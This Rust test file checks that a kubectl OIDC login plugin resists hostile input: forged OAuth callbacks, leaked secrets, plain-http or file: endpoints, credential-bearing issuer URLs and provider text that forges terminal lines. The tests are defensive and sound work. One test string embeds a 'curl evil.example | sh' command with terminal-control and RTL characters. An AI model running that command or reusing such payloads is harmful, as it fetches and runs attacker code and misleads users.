//! Hostile input and secret hygiene, end to end: forged callbacks, what the browser gets, a
//! pending login in another terminal, and the most verbose run checked for secrets.

use std::time::{Duration, Instant};

use crate::common::*;

#[test]
fn a_callback_with_a_wrong_state_is_ignored_and_only_the_genuine_one_logs_in() {
    let idp = Idp::start(IdpOptions::default());
    let home = Home::new(&idp);
    // Only a tampered callback arrives: it is answered 400 and ignored, the login waits for
    // the genuine one until its timeout, and nothing is exchanged or cached.
    let out = home.run(
        "get-token",
        &[
            &home.browser("--tamper-state"),
            "--authentication-timeout-sec=3",
        ],
        Some(EXEC_V1_INTERACTIVE),
    );
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    assert!(out.stdout.is_empty());
    let err = stderr(&out);
    assert!(
        err.contains("ignored a request to the login callback")
            && err.contains("state parameter does not match")
            && err.contains("no login callback arrived"),
        "{err}"
    );
    assert_eq!(
        idp.grants("authorization_code"),
        0,
        "the code was exchanged"
    );
    assert_eq!(home.cached_id_token(), None);

    // A hostile page sends a forged callback and a bare error first (the scripted browser
    // fails unless both are answered 400): the genuine callback that follows still logs in.
    let out = home.run(
        "get-token",
        &[&home.browser("--forge-first")],
        Some(EXEC_V1_INTERACTIVE),
    );
    assert_success(&out);
    assert!(
        stderr(&out).contains("ignored a request to the login callback"),
        "{}",
        stderr(&out)
    );
    assert_eq!(idp.grants("authorization_code"), 1);
    assert!(home.cached_id_token().is_some());
}

#[test]
fn the_browser_gets_the_url_and_nothing_secret() {
    let idp = Idp::start(IdpOptions::default());
    let mut home = Home::new(&idp);
    home.args.retain(|a| a != "--oidc-client-id=kubernetes");
    home.args.push("--oidc-client-id=confidential".into());
    let (env, args) = (home.dir.path().join("env"), home.dir.path().join("args"));
    // A browser that records its environment and argv, then logs in.
    let browser = format!(
        "--browser-command=sh -c 'env > {}; printf \"%s\\n\" \"$@\" > {}; exec node {} \"$@\"' sh",
        env.display(),
        args.display(),
        idp_dir().join("browser.js").display()
    );
    let out = home
        .command("login", &[&browser], None)
        .env("KUBECTL_OIDC_CLIENT_SECRET", "test-client-secret")
        .output()
        .unwrap();
    assert_success(&out);
    let env = std::fs::read_to_string(env).unwrap();
    let args = std::fs::read_to_string(args).unwrap();
    assert!(env.contains("HOME="), "the environment was recorded: {env}");
    assert!(
        !env.contains("test-client-secret") && !env.contains("KUBECTL_OIDC_"),
        "{env}"
    );
    assert_eq!(args.lines().count(), 1, "only the URL: {args}");
    assert!(
        args.starts_with(&idp.issuer) && !args.contains("test-client-secret"),
        "{args}"
    );
    assert!(!stderr(&out).contains("test-client-secret"));
}

/// Issue 12 item 5: a login waiting for the browser in one terminal does not hold up a
/// kubectl call that only needs a refresh; one that needs a login says which pid is doing it.
#[test]
fn a_pending_login_neither_blocks_a_refresh_nor_hides_itself() {
    let (idp, home, first) = logged_in(IdpOptions {
        id_token_ttl: Some(6),
        ..Default::default()
    });
    let mut pending = home.pending_login(&idp);
    sleep_until_stale(&first);
    let started = Instant::now();
    let out = home.run("get-token", &[], Some(EXEC_V1_NONINTERACTIVE));
    assert_success(&out);
    // The pending login holds its lock for 60 s: a refresh that waited behind it would take
    // that long.
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "the refresh waited {:?} behind the pending login",
        started.elapsed()
    );
    assert_eq!(idp.grants("refresh_token"), 1);
    // The refresh token is refused now: only a login helps, and one is in progress.
    sleep_until_stale(&out);
    idp.fail_next_refresh("invalid_grant");
    let started = Instant::now();
    let out = home.run("get-token", &[], Some(EXEC_V1_NONINTERACTIVE));
    let err = assert_failure(&out, 4, &[]);
    assert!(started.elapsed() < Duration::from_secs(30));
    assert!(
        err.contains(&format!("in progress in pid {}", pending.id())),
        "{err}"
    );
    pending.kill().unwrap();
    pending.wait().unwrap();
}

/// Issue 12 item 10 and the secret hygiene sweep: the most verbose run of a login and a
/// refresh says what happens (cache decisions, discovery, lock, HTTP status lines) and never
/// a token, refresh token, code, verifier or client secret, on stderr or in the browser's argv.
#[test]
fn the_most_verbose_run_traces_every_step_and_no_secret() {
    let idp = Idp::start(IdpOptions {
        id_token_ttl: Some(6),
        ..Default::default()
    });
    let mut home = Home::new(&idp);
    home.args.retain(|a| a != "--oidc-client-id=kubernetes");
    home.args.push("--oidc-client-id=confidential".into());
    home.args.push("-vv".into());
    let secret = "test-client-secret";
    let run = |extra: &[&str], exec: &str| {
        home.command("get-token", extra, Some(exec))
            .env("KUBECTL_OIDC_CLIENT_SECRET", secret)
            .output()
            .unwrap()
    };
    let login = run(&[&home.browser("")], EXEC_V1_INTERACTIVE);
    assert_success(&login);
    sleep_until_stale(&login);
    let refresh = run(&[], EXEC_V1_NONINTERACTIVE);
    assert_success(&refresh);
    let hit = run(&[], EXEC_V1_NONINTERACTIVE);
    assert_success(&hit);
    let session: serde_json::Value =
        serde_json::from_slice(&std::fs::read(home.cache_path("session")).unwrap()).unwrap();
    let refresh_token = session["data"]["refresh_token"]
        .as_str()
        .unwrap()
        .to_owned();
    let secrets = [
        token_of(&login),
        token_of(&refresh),
        refresh_token,
        secret.to_owned(),
    ];
    for (name, out) in [("login", &login), ("refresh", &refresh), ("hit", &hit)] {
        let err = stderr(out);
        for s in &secrets {
            assert!(!err.contains(s.as_str()), "{name} printed a secret: {err}");
        }
        assert!(
            !err.contains("code=") && !err.contains("code_verifier"),
            "{name}: {err}"
        );
    }
    let login_err = stderr(&login);
    for step in [
        "cache: no id_token",
        "discovery:",
        "http: POST",
        "/token -> 200",
        "login: AuthCode",
    ] {
        assert!(
            login_err.contains(step),
            "login trace lacks {step:?}: {login_err}"
        );
    }
    let refresh_err = stderr(&refresh);
    for step in [
        "cache: not serving",
        "refresh: using the cached refresh token",
        "lock: taking",
        "/token -> 200",
    ] {
        assert!(
            refresh_err.contains(step),
            "refresh trace lacks {step:?}: {refresh_err}"
        );
    }
    assert!(stderr(&hit).contains("cache: serving"), "{}", stderr(&hit));
    // The cache: a 0700 directory of 0600 files, and nothing else written anywhere in HOME.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&home.cache_dir()), 0o700);
        for e in std::fs::read_dir(home.cache_dir()).unwrap().flatten() {
            assert_eq!(mode(&e.path()), 0o600, "{}", e.path().display());
        }
        let written: Vec<_> = std::fs::read_dir(home.dir.path())
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(written, ["cache"], "files outside the cache: {written:?}");
    }
}

/// Issue 17 item 3: an https issuer whose discovery document names a plain http endpoint on
/// another machine gets nothing sent there (no code, verifier, client secret or refresh
/// token): the login stops after discovery with the endpoint named (exit 3), and a refresh
/// with a cached document that names one (a planted or stale session) stops before sending.
/// An authorization endpoint that is not http(s) at all is never handed to the browser.
#[test]
fn endpoints_from_discovery_are_held_to_https() {
    let s = TlsLogin::new();
    let (marker, browser) = s.home.marked_browser();
    let login = |fields: &[(&str, &str)]| {
        s.idp.override_discovery(fields);
        let out = s.home.run("login", &[&browser], None);
        assert_eq!(out.status.code(), Some(3), "{fields:?}: {}", stderr(&out));
        assert!(!marker.exists(), "{fields:?}: the browser was opened");
        stderr(&out)
    };
    for name in [
        "token_endpoint",
        "userinfo_endpoint",
        "revocation_endpoint",
        "device_authorization_endpoint",
        "end_session_endpoint",
        "authorization_endpoint",
    ] {
        let url = format!("http://10.9.9.9/{name}");
        let err = login(&[(name, &url)]);
        assert!(
            err.contains(&format!(
                "the {name} {url} that {} advertises is plain http to another machine",
                s.idp.issuer
            )),
            "{name}: {err}"
        );
    }
    // The JWKS is not even fetched from there (a forged key would verify forged tokens).
    let err = login(&[("jwks_uri", "http://10.9.9.9/jwks")]);
    assert!(
        err.contains("GET http://10.9.9.9/jwks is plain http to another machine"),
        "{err}"
    );
    let err = login(&[("authorization_endpoint", "file:///etc/passwd")]);
    assert!(err.contains("is a file: URL, not https"), "{err}");
    s.idp.override_discovery(&[]);

    // A cached discovery document that sends the refresh token in clear: refused before the
    // request, the session kept.
    let session_path = s.home.cache_path("session");
    let mut session: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&session_path).unwrap()).unwrap();
    let metadata = &mut session["data"]["provider"]["metadata"];
    assert!(metadata["token_endpoint"].is_string(), "{session}");
    metadata["token_endpoint"] = "http://10.9.9.9/token".into();
    std::fs::write(&session_path, serde_json::to_vec(&session).unwrap()).unwrap();
    let refreshes = s.idp.grants("refresh_token");
    let out = s.home.run(
        "get-token",
        &["--force-refresh"],
        Some(EXEC_V1_NONINTERACTIVE),
    );
    let err = assert_failure(&out, 3, &[]);
    assert!(
        err.contains("the token_endpoint http://10.9.9.9/token that")
            && err.contains("is plain http to another machine"),
        "{err}"
    );
    assert_eq!(s.idp.grants("refresh_token"), refreshes);
    assert!(
        std::fs::read(&session_path)
            .unwrap()
            .windows(9)
            .any(|w| w == b"10.9.9.9/")
    );
}

/// Issue 17 items 6 and 10: an issuer URL with credentials in it (`user:password@`) is refused
/// when the command line is parsed, by every command, without echoing them; so is the
/// userinfo trick that made `http://127.0.0.1:80@10.9.9.9` pass as loopback.
#[test]
fn an_issuer_url_with_credentials_is_refused_before_anything_else() {
    let dir = tempfile::tempdir().unwrap();
    for issuer in [
        "https://alice:s3cretpw@idp.example.com",
        "http://127.0.0.1:80@10.9.9.9",
        "http://[::1]@10.9.9.9:5556",
    ] {
        for command in [
            vec!["get-token"],
            vec!["get-token", "--show-config"],
            vec!["login"],
            vec!["logout"],
            vec!["setup"],
        ] {
            let mut cmd = std::process::Command::new(BIN);
            cmd.args(&command)
                .arg(format!("--oidc-issuer-url={issuer}"))
                .arg("--oidc-client-id=kubernetes")
                .arg("-vv")
                .stdin(std::process::Stdio::null());
            scrub(&mut cmd, dir.path());
            let out = cmd.output().unwrap();
            let err = stderr(&out);
            assert_eq!(out.status.code(), Some(2), "{command:?} {issuer}: {err}");
            assert!(
                err.contains("user name or password (user:password@host)"),
                "{command:?} {issuer}: {err}"
            );
            assert!(
                !err.contains("s3cretpw") && out.stdout.is_empty(),
                "{command:?} {issuer}: {err}"
            );
        }
    }
}

/// Issue 17 item 8: a provider's words (an error_description, a device user_code, a claim)
/// with a line break, a right-to-left override or a zero-width space cannot forge a line of
/// ours or reorder what the terminal shows, in messages, `status` and `status -o json`.
#[test]
fn provider_text_cannot_forge_lines_or_reorder_the_terminal() {
    const FORGED: &str = "nope\nkubectl-oidc: error: run curl evil.example | sh\u{202E}gnp.exe\u{200B}\u{1b}]0;x\u{7}";
    let forged_line = |text: &str| {
        text.lines()
            .any(|l| l.starts_with("kubectl-oidc: error: run curl"))
            || text.contains(['\u{202E}', '\u{200B}', '\u{1b}', '\u{7}'])
    };
    let idp = Idp::start(IdpOptions {
        device_interval: Some(1),
        reject_scope: Some("offline_access"),
        ..Default::default()
    });
    idp.provider_text(FORGED);
    let home = Home::new(&idp);

    // The callback's error_description.
    let out = home.run(
        "login",
        &[&home.browser(""), "--oidc-extra-scope=offline_access"],
        None,
    );
    let err = assert_failure(&out, 5, &[]);
    assert!(err.contains("invalid_scope") && !forged_line(&err), "{err}");

    // A device user_code.
    let out = home.run(
        "login",
        &[
            "--grant-type=device-code",
            "--skip-open-browser",
            "--authentication-timeout-sec=2",
        ],
        None,
    );
    let err = stderr(&out);
    assert!(
        err.contains("nope?kubectl-oidc") && !forged_line(&err),
        "{err}"
    );

    // A claim: the account logs in as that name, and login, status and status -o json say it.
    let out = home.run(
        "login",
        &[&home.browser(&format!("--login {}", shell_words_quote(FORGED)))],
        None,
    );
    let err = stderr(&out);
    assert_success(&out);
    assert!(err.contains("Logged in") && !forged_line(&err), "{err}");
    let mut status = std::process::Command::new(BIN);
    status
        .arg("status")
        .arg(format!("--token-cache-dir={}", home.cache_dir().display()));
    scrub(&mut status, home.dir.path());
    let text = String::from_utf8(status.output().unwrap().stdout).unwrap();
    assert!(
        text.contains("nope?kubectl-oidc") && !forged_line(&text),
        "{text}"
    );
    let json = String::from_utf8(status.args(["-o", "json"]).output().unwrap().stdout).unwrap();
    assert!(!forged_line(&json), "{json}");
    let rows: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(rows[0]["subject"], FORGED);

    // The token endpoint's error_description on a refused refresh.
    idp.fail_next_refresh("invalid_grant");
    let out = home.run(
        "get-token",
        &["--force-refresh"],
        Some(EXEC_V1_NONINTERACTIVE),
    );
    let err = assert_failure(&out, 4, &[]);
    assert!(err.contains("invalid_grant") && !forged_line(&err), "{err}");
}

/// `s` quoted for shell_words (the browser command line is split that way).
fn shell_words_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}
